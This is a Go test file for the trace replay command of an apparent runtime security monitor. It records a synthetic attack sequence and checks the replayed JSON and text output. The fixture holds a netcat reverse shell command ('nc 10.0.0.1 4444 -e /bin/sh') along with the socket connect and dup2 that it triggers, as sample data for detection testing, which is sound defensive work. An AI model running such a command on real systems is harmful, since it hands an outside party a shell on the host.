package main

import (
	"bytes"
	"encoding/json"
	"errors"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/driftwatch/driftwatch/event"
	"github.com/driftwatch/driftwatch/event/trace"
)

const replayCID = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"

// writeReplayTrace records a small attack-like sequence: a shell older than
// the capture (only in the snapshot) forks nc in a container, nc connects
// out and dup2s the socket onto stdin; a cgroup appears mid-capture.
func writeReplayTrace(t *testing.T) (string, []byte) {
	t.Helper()
	snap := &event.Snapshot{
		Hostname: "node-1",
		Processes: []event.ProcessInfo{
			{Pid: 1, Comm: "init", Exe: "/sbin/init", Args: []string{"/sbin/init"}},
			{Pid: 50, Ppid: 1, Comm: "bash", Exe: "/bin/bash", Args: []string{"bash"}, Cwd: "/root", CgroupID: 1},
		},
		Cgroups: map[uint64]string{1: "/"},
	}
	var buf bytes.Buffer
	w, err := trace.NewWriter(&buf, snap)
	if err != nil {
		t.Fatal(err)
	}
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	must(w.WriteCgroup(77, "/test-kubepods/pod1/"+replayCID))
	must(w.WriteContainer(event.ContainerInfo{ID: replayCID, Name: "web", Image: "nginx:1"}))
	evs := []*event.Event{
		{Kind: event.KindSyscall, Syscall: event.SysOpenat, Num: 1, Time: 10, Pid: 50, Tid: 50, Ppid: 1, Fd: -100, Path: []byte("notes.txt"), Ret: 3, CgroupID: 1},
		{Kind: event.KindFork, Num: 2, Time: 20, Pid: 50, Tid: 50, Ppid: 1, ChildPid: 60, ChildTid: 60, CgroupID: 1},
		{Kind: event.KindExec, Num: 3, Time: 30, Pid: 60, Tid: 60, Ppid: 50, Exe: []byte("/bin/nc"), Argv: []byte("nc\x0010.0.0.1\x004444\x00-e\x00/bin/sh\n\xff"), Cwd: []byte("/srv"), CgroupID: 77},
		{Kind: event.KindSyscall, Syscall: event.SysSocket, Num: 4, Time: 40, Pid: 60, Tid: 60, Ppid: 50, Family: event.AFInet, SockType: 1, Ret: 4, CgroupID: 77},
		{Kind: event.KindSyscall, Syscall: event.SysConnect, Num: 5, Time: 50, Pid: 60, Tid: 60, Ppid: 50, Fd: 4, Family: event.AFInet, Proto: event.ProtoTCP,
			Src: netip.MustParseAddrPort("10.0.0.2:40000"), Dst: netip.MustParseAddrPort("10.0.0.1:4444"), CgroupID: 77},
		{Kind: event.KindSyscall, Syscall: event.SysDup2, Num: 6, Time: 60, Pid: 60, Tid: 60, Ppid: 50, Fd: 4, Fd2: 0, Ret: 0, CgroupID: 77},
	}
	evs[2].SetComm("nc")
	for _, e := range evs {
		must(w.Write(e))
		// Flushed as the recorder does periodically: a cut file keeps the
		// events of its complete compressed blocks.
		must(w.Flush())
	}
	must(w.Close())
	path := filepath.Join(t.TempDir(), "attack.dwt")
	must(os.WriteFile(path, buf.Bytes(), 0o644))
	return path, buf.Bytes()
}

func runCmd(t *testing.T, args ...string) (string, string, error) {
	t.Helper()
	root := newRootCmd()
	var out, errb bytes.Buffer
	root.SetOut(&out)
	root.SetErr(&errb)
	root.SetArgs(args)
	err := root.Execute()
	return out.String(), errb.String(), err
}

func TestReplayJSON(t *testing.T) {
	path, _ := writeReplayTrace(t)
	out, _, err := runCmd(t, "replay", "--format", "json", path)
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
	if len(lines) != 6 {
		t.Fatalf("%d lines, want 6:\n%s", len(lines), out)
	}
	var objs []map[string]any
	for i, l := range lines {
		var m map[string]any
		if err := json.Unmarshal([]byte(l), &m); err != nil {
			t.Fatalf("line %d not JSON: %v: %s", i, err, l)
		}
		objs = append(objs, m)
	}
	check := func(i int, k string, want any) {
		t.Helper()
		if objs[i][k] != want {
			t.Errorf("line %d %s = %#v, want %#v", i, k, objs[i][k], want)
		}
	}
	// Syscall of a process known only from the snapshot: full context.
	check(0, "evt.type", "openat")
	check(0, "proc.name", "bash")
	check(0, "proc.exepath", "/bin/bash")
	check(0, "proc.pname", "init")
	check(0, "fd.name", "/root/notes.txt")
	check(0, "container.id", "host")
	check(1, "evt.type", "clone")
	check(2, "evt.type", "execve")
	check(2, "proc.cmdline", `nc 10.0.0.1 4444 -e /bin/sh\n\xff`)
	check(2, "proc.pname", "bash")
	check(2, "container.id", replayCID)
	check(2, "container.name", "web")
	// The socket dup2'ed onto stdin is a socket with its tuple.
	check(5, "evt.type", "dup2")
	check(5, "fd.num", 0.0)
	check(5, "fd.name", "10.0.0.2:40000->10.0.0.1:4444")
	check(5, "fd.sip", "10.0.0.1")
	check(5, "fd.sport", 4444.0)
	check(5, "fd.l4proto", "tcp")
	check(5, "proc.exepath", "/bin/nc")
	check(5, "cgroup.id", 77.0)
}

func TestReplayText(t *testing.T) {
	path, _ := writeReplayTrace(t)
	out, _, err := runCmd(t, "replay", path)
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
	if len(lines) != 6 || !strings.Contains(lines[5], "dup2") || !strings.Contains(lines[5], "name=10.0.0.2:40000->10.0.0.1:4444") {
		t.Fatalf("text output:\n%s", out)
	}
}

func TestReplayTruncated(t *testing.T) {
	_, data := writeReplayTrace(t)
	path := filepath.Join(t.TempDir(), "cut.dwt")
	if err := os.WriteFile(path, data[:len(data)-12], 0o644); err != nil {
		t.Fatal(err)
	}
	out, _, err := runCmd(t, "replay", "--format", "json", path)
	if err == nil {
		t.Fatal("truncated trace replayed without error")
	}
	var ee *exitError
	if !errors.As(err, &ee) || ee.code != 1 {
		t.Fatalf("error %v: want exit code 1", err)
	}
	if !strings.Contains(err.Error(), "error at byte offset ") {
		t.Fatalf("error %q lacks the byte offset", err)
	}
	if n := strings.Count(out, "\n"); n == 0 {
		t.Fatalf("no events printed before the damage: %q", out)
	}
}

func TestReplayBadFormat(t *testing.T) {
	path, _ := writeReplayTrace(t)
	if _, _, err := runCmd(t, "replay", "--format", "xml", path); err == nil {
		t.Fatal("--format xml accepted")
	}
}
